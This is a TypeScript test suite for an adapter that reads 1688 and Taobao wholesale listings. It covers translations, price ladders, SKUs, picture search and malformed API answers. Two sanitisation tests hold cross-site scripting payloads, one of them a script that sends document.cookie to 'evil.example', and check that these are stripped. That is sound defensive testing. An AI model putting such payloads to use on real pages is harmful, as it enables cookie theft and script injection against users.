import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { cleanOffer } from '../clean/clean-offer.ts'
import { type Offer, priceAt, type Sku } from '../port.ts'
import { ladderOf } from '../sku.ts'
import { aQuery, asking, failureOf, mugId, never, openSimulated } from '../testing/asking.ts'
import { itConforms } from '../testing/conformance.ts'
import { givenTmapi } from '../testing/given-tmapi.ts'
import { aListing, someListings } from '../testing/goods.ts'
import { memoryAnswers } from '../testing/memory-answers.ts'
import { servePicture } from '../testing/served-picture.ts'
import { simulateTmapi, type TmapiQuirks, type TmapiSimulator } from '../testing/tmapi-simulator.ts'
import type { TmapiOptions } from './adapter.ts'

itConforms('TMAPI', openSimulated(simulateTmapi, givenTmapi))

describe('TMAPI', () => {
  let simulator: TmapiSimulator
  beforeEach(async () => {
    simulator = await simulateTmapi(someListings())
  })
  afterEach(() => simulator[Symbol.asyncDispose]())

  const has = (parts: Partial<Offer>) => simulator.listings.set(mugId, aListing(mugId, parts))
  const adapterOf = (options?: Partial<TmapiOptions>) => givenTmapi(simulator, options)
  const { product, search } = asking(adapterOf)
  const callsTo = (path: string) => simulator.calls.filter((call) => call.path === path)

  test('an offer has the original and the buyers’ languages, ladder, options, seller and what else a wholesale buyer must see', async () => {
    has({})
    expect(await product()).toEqual({
      ...aListing(mugId),
      unit: { zh: '件', ru: 'шт.', en: 'pcs' },
      seller: expect.objectContaining({
        id: '1688:b2b-22001',
        name: '永康市云杯工厂',
        location: { zh: '浙江 金华市', ru: 'Чжэцзян', en: 'Zhejiang' },
      }),
      delivery: { from: { zh: '浙江 金华市', ru: 'Чжэцзян', en: 'Zhejiang' }, dispatchHours: 48, fee: { minor: 600, pieces: 3 } },
      rawDetailApi: {
        data_content: expect.objectContaining({ item_id: 610_000_000_001, sku_props: expect.any(Array), main_imgs: expect.any(Array) }),
      },
      fetchedAt: '2026-03-01T10:00:00.000Z',
    })
  })

  describe('a picture', () => {
    const wish = { keywords: {}, text: '' }

    test('is fetched by the service once, from an address of the shop, and searched by in the buyer’s language', async () => {
      await using served = await servePicture()
      const picture = { id: 'a-picture', link: async () => served.url }
      const { search: ask } = asking<TmapiOptions>((options) => adapterOf({ answers, ...options }))
      const answers = memoryAnswers()
      const first = await ask({ ...wish, picture, limit: 5 })
      expect(first.hits).toHaveLength(5)
      expect(first.hits[0]?.offer.title.ru).toBeTruthy()
      await ask({ ...wish, picture, limit: 5, sort: 'sales', price: { CNY: { maxMinor: 950 } } })
      expect([...simulator.pictures.values()].map(String)).toEqual(['the bytes of a picture'])
      expect(served.fetched).toBe(1)
      expect(callsTo('/1688/tools/image/convert_url').map(({ body }) => JSON.parse(body))).toEqual([
        { url: served.url, search_api_endpoint: '/global/search/image' },
      ])
      expect(callsTo('/1688/global/search/image').map(({ query }) => Object.fromEntries(query))).toMatchObject([
        { img_url: '/search/imgextra/1.jpg', language: 'ru', sort: 'default', page: '1' },
        { img_url: '/search/imgextra/1.jpg', language: 'ru', sort: 'sales', price_end: '9.50' },
      ])
      // A path is for the search that it was made for.
      expect((await ask({ ...wish, picture, language: 'zh' })).hits[0]?.offer.title.zh).toBeTruthy()
      expect(callsTo('/1688/search/image')).toHaveLength(1)
      expect(served.fetched).toBe(2)
    })

    test('that cannot be fetched is a failure that does not tell where it lies; one that is gone finds nothing', async () => {
      const gone = { id: 'b', link: async () => 'http://127.0.0.1:1/media/lent/a-signature/b.jpg' }
      const error = await failureOf(search({ ...wish, picture: gone }))
      expect(error).toMatchObject({ name: 'MarketplaceError', message: expect.stringContaining('could not be read') })
      expect(`${error.stack} ${JSON.stringify(error)}`).not.toContain('a-signature')
      const calls = simulator.calls.length
      expect(await search({ ...wish, picture: { id: 'c', link: async () => undefined } })).toEqual({ hits: [], total: 0 })
      expect(simulator.calls).toHaveLength(calls)
    })

    test('is compared only where the service can call the shop', () => {
      expect(adapterOf().searchesPictures).toBe(true)
      expect(adapterOf({ fetchesPictures: false })).not.toHaveProperty('searchesPictures')
    })
  })

  describe('what its answers are sometimes like', () => {
    const plainly = async (quirks: Partial<TmapiQuirks>) => {
      const { rawDetailApi: _, ...expected } = (await product())!
      simulator.quirks = quirks
      const { rawDetailApi: __, ...offer } = (await product())!
      return { offer, expected }
    }

    test.each<[string, Partial<TmapiQuirks>]>([
      ['numbers as strings', { numbersAsText: true }],
      ['item_id as text', { idsAreText: true }],
      ['MOQ null', { moqIsNull: true }],
      ['props_names without the names of the options', { namesAreBare: true }],
      ['price_info.price of the largest step', { shownPriceIsLowest: true }],
      ['a video that is ""', { video: '' }],
      ['a video that is null', { video: null }],
    ])('%s: the same offer [section 9]', async (_, quirks) => {
      const { offer, expected } = await plainly(quirks)
      expect(offer).toEqual(expected)
    })

    test('numbers as strings, MOQ null, item_id as text in lists: the same rows [section 9]', async () => {
      const before = await search()
      simulator.quirks = { numbersAsText: true, idsAreText: true }
      expect(await search()).toEqual(before)
      simulator.quirks = { moqIsNull: true }
      // The first step tells the smallest order as well.
      expect((await search()).hits.map(({ offer }) => offer.moq)).toEqual(before.hits.map(({ offer }) => offer.moq))
      simulator.quirks = { moqIsNull: true, tiersAreEmpty: true }
      expect((await search()).hits[0]?.offer).toMatchObject({ moq: 1, priceLadder: [{ from: 1, minor: 1000 }] })
    })

    test.each([null, ''] as const)('an open end_num as %j is the last step [section 9]', async (openEnd) => {
      simulator.quirks = { openEnd }
      const ladder = (await search()).hits[0]!.offer.priceLadder
      expect([1, 3, 99, 100, 5_000].map((pieces) => priceAt(ladder, pieces))).toEqual([1000, 1000, 1000, 800, 800])
    })

    test('empty tiers: the SKUs price it, each its own where they differ [section 9]', async () => {
      simulator.quirks = { tiersAreEmpty: true }
      expect((await product())?.priceLadder).toEqual([{ from: 3, minor: 1000 }])
      const [black, white] = aListing(mugId).skus
      has({ skus: [{ ...black!, priceMinor: 1200 }, white!] })
      expect(await product()).toMatchObject({ priceLadder: [{ from: 3, minor: 1000 }], skus: [{ priceMinor: 1200 }, { priceMinor: 1000 }] })
    })

    test('steps beside SKUs of different prices: each piece costs what its SKU does, however many, and no step is promised', async () => {
      const [black, white] = aListing(mugId).skus
      has({ skus: [black!, { ...white!, priceMinor: 1200 }] })
      const offer = (await product())!
      const pricesOf = (sku: Sku | undefined) => [1, 3, 99, 100, 5000].map((pieces) => priceAt(ladderOf(offer, sku), pieces))
      expect(offer.skus.map(pricesOf)).toEqual([Array(5).fill(1000), Array(5).fill(1200)])
      // What cards and comparison show of the whole offer is its cheapest variant.
      expect(offer.priceLadder).toEqual([{ from: 3, minor: 1000 }])
      expect(offer.moq).toBe(3)
    })

    test('steps beside SKUs of one price: the step that the quantity reaches, of each SKU', async () => {
      simulator.quirks = { numbersAsText: true, shownPriceIsLowest: true }
      const offer = (await product())!
      expect(offer.skus.map((sku) => [1, 3, 99, 100].map((pieces) => priceAt(ladderOf(offer, sku), pieces)))).toEqual([
        [1000, 1000, 1000, 800],
        [1000, 1000, 1000, 800],
      ])
    })

    test('a SKU with a vid that sku_props does not list can be chosen by the name that it carries [section 9]', async () => {
      simulator.quirks = { hasUnlistedVid: true }
      const offer = await product()
      expect(offer?.options[0]?.values).toMatchObject([{ vid: '0' }, { vid: '1', name: { zh: '白色' } }])
    })

    test('untranslated values under language=ru stay Chinese, and are not called Russian [section 9]', async () => {
      simulator.quirks = { staysChinese: true }
      const offer = await product()
      expect(offer).toMatchObject({ title: { zh: '不锈钢保温杯500毫升' }, attributes: [{ value: { zh: '不锈钢' } }, {}] })
      expect(JSON.stringify([offer?.title, offer?.attributes, offer?.options])).not.toContain('"ru"')
      expect((await search()).hits[0]?.offer.title).toEqual({ zh: '不锈钢保温杯500毫升' })
    })

    test('a delivery fee of 0 is not stated, and not free', async () => {
      has({ delivery: { from: { zh: '浙江 金华市' }, dispatchHours: 48 } })
      expect((await product())?.delivery).toEqual({ from: { zh: '浙江 金华市', ru: 'Чжэцзян', en: 'Zhejiang' }, dispatchHours: 48 })
    })

    test('missing SKUs, stock and weight stay unknown', async () => {
      simulator.quirks = { skusAreMissing: true }
      has({ stock: undefined, weightGrams: undefined, seller: undefined, mixedBatch: undefined, priceLadder: [] })
      const offer = await product()
      expect(offer).toMatchObject({ skus: [], priceLadder: [] })
      for (const name of ['stock', 'weightGrams', 'seller', 'mixedBatch'] as const) expect(offer?.[name]).toBeUndefined()
    })

    test('the packing is known by its sides, else by its volume; 0 is unknown, and of several variants the largest counts', async () => {
      expect((await product())?.boxCm3).toBeUndefined()
      has({ boxCm3: 1800 })
      expect((await product())?.boxCm3).toBe(1800)
      simulator.quirks = { numbersAsText: true }
      expect((await product())?.boxCm3).toBe(1800)
      simulator.quirks = { box: [45, 30, 12.5] }
      expect((await product())?.boxCm3).toBe(16_875)
      simulator.quirks = { box: [45, 30, 0] }
      expect((await product())?.boxCm3).toBeUndefined()
    })

    test('what is sold out has nothing in stock', async () => {
      has({ stock: 0 })
      expect(await product()).toMatchObject({ stock: 0, skus: [{ stock: 0 }, { stock: 0 }] })
    })

    test('paid places come after the others', async () => {
      const before = (await search()).hits.map(({ offer }) => offer.id)
      simulator.quirks = { hasAds: true }
      expect((await search()).hits.map(({ offer }) => offer.id)).toEqual([...before.slice(1), before[0]])
    })

    test('a hostile description is text about goods when it is shown', async () => {
      simulator.quirks = {
        descriptionHtml:
          '<div onclick="steal()"><script>document.location="https://evil.example/?"+document.cookie</script><img src=x onerror=alert(1)>双层保温。加微信 cups_2020 更便宜。<iframe src="https://evil.example"></iframe></div>',
      }
      const offer = cleanOffer((await product())!)
      expect(offer.description?.zh).toContain('双层保温')
      expect(offer.description?.zh).not.toMatch(/[<>]|script|evil|cups_2020/)
    })

    test('markup in its own answer is gone before that is handed on', async () => {
      has({
        title: { zh: '保温杯<img src=x onerror=alert(1)>' },
        attributes: [{ name: { zh: '材质' }, value: { zh: '<b onmouseover=x()>不锈钢</b>' } }],
      })
      const offer = await product()
      expect(offer).toMatchObject({ title: { zh: '保温杯' }, attributes: [{ value: { zh: '不锈钢' } }] })
      expect(JSON.stringify(offer)).not.toMatch(/onerror|onmouseover/)
    })
  })

  test('Taobao: by real ids, without steps, pictures and video made https', async () => {
    const propsIds = '21433:38838'
    const options = [{ pid: '21433', name: { zh: '颜色分类' }, values: [{ vid: '38838', name: { zh: '黑色' } }] }]
    const offer = aListing('689012345678', {
      platform: 'taobao',
      options,
      skus: [{ skuId: '4901234567890', propsIds, priceMinor: 5900, stock: 4 }],
      priceLadder: [{ from: 1, minor: 5900 }],
    })
    simulator.listings.set('689012345678', offer)
    const marketplace = adapterOf()
    expect(await marketplace.productById?.('taobao-689012345678', 'ru', never)).toMatchObject({
      id: 'taobao-689012345678',
      platform: 'taobao',
      moq: 1,
      priceLadder: [{ from: 1, minor: 5900 }],
      skus: [{ skuId: '4901234567890', propsIds }],
      images: ['https://cbu01.alicdn.com/img/ibank/mug-1.jpg', 'https://cbu01.alicdn.com/img/ibank/mug-2.jpg'],
      videoUrl: 'https://cloud.video.taobao.com/play/1.mp4',
      productUrl: 'https://item.taobao.com/item.htm?id=689012345678',
      seller: { id: 'taobao:88' },
    })
    expect(await marketplace.product('689012345678', 'ru', never)).toBeUndefined()
    expect(await marketplace.productById?.('alibaba-689012345678', 'ru', never)).toBeUndefined()
  })

  describe('a search', () => {
    test('is asked in Chinese, for names in the buyer’s language', async () => {
      const { hits } = await search({
        text: 'чёрная термокружка с гравировкой',
        keywords: { zh: '黑色保温杯гравировка', ru: 'чёрная термокружка' },
      })
      expect(simulator.calls.map(({ path, query }) => [path, query.get('keyword'), query.get('language')])).toEqual([
        ['/1688/global/search/items', '黑色保温杯', 'ru'],
      ])
      expect(hits[0]?.offer.title).toEqual({ zh: '不锈钢保温杯500毫升', ru: 'Термокружка из нержавеющей стали 500 мл' })
    })

    test('in plain words is put into Chinese by the lexicon', async () => {
      const { hits } = await search({ text: 'чёрная термокружка', keywords: { ru: 'чёрная термокружка' } })
      expect(simulator.calls[0]?.query.get('keyword')).toMatch(/^黑色? ?保温杯$/)
      expect(hits.length).toBeGreaterThan(0)
    })

    test('is the marketplace’s word for what it was asked for, where a row says nothing of it', async () => {
      const wish = { types: ['thermos-mug'], colors: ['color.black', 'color.red'], materials: ['material.wood'] }
      expect((await search({ ...wish, keywords: { zh: '黑色保温杯' } })).hits[0]?.matched).toEqual(['thermos-mug', 'color.black'])
    })

    test('of which nothing is known goes as it is, in its language', async () => {
      await search({ text: 'xqzt 9000', keywords: {}, language: 'en' })
      expect(simulator.calls.map(({ path, query }) => [path, query.get('keyword'), query.get('language')])).toEqual([
        ['/1688/global/search/items', 'xqzt 9000', 'en'],
      ])
    })

    test('of a Chinese buyer asks the Chinese list, as does one to which the other list has nothing', async () => {
      await search({ language: 'zh' })
      expect(callsTo('/1688/search/items')).toHaveLength(1)
      simulator.fail(
        { status: 200, body: { code: 200, msg: 'success', data: { items: [], has_next_page: false } } },
        { path: '/global/search/items' },
      )
      expect((await search()).hits[0]?.offer.title).toEqual({ zh: '不锈钢保温杯500毫升' })
    })

    test('carries order and highest price, and is kept by all it was asked with, the language included', async () => {
      const adapter = adapterOf({ answers: memoryAnswers() })
      const wish = { sort: 'price', price: { CNY: { minMinor: 500, maxMinor: 1250 } } } as const
      for (const language of ['ru', 'ru', 'en'] as const) await adapter.search(aQuery({ ...wish, language }), never)
      expect(
        simulator.calls.map(({ query }) => [query.get('language'), query.get('sort'), query.get('price_end'), query.get('price_start')]),
      ).toEqual([
        ['ru', 'price_up', '12.50', null],
        ['en', 'price_up', '12.50', null],
      ])
    })

    test('of several pages asks for no more than there are, and bears one that does not come', async () => {
      const { hits, total } = await search({ limit: 60 })
      expect([hits.length, total]).toEqual([25, 25])
      simulator.calls.length = 0
      expect((await search({ limit: 60, language: 'zh' })).hits).toHaveLength(25)
      expect(callsTo('/1688/search/items').map(({ query }) => query.get('page'))).toEqual(['1', '2'])
    })

    test('half an answer is a failure, not "nothing found"', async () => {
      simulator.fail({ status: 200, body: { code: 200, msg: 'success', data: { page: 1 } } })
      expect(await failureOf(search())).toMatchObject({ name: 'MarketplaceError', kind: 'refused' })
    })
  })
})
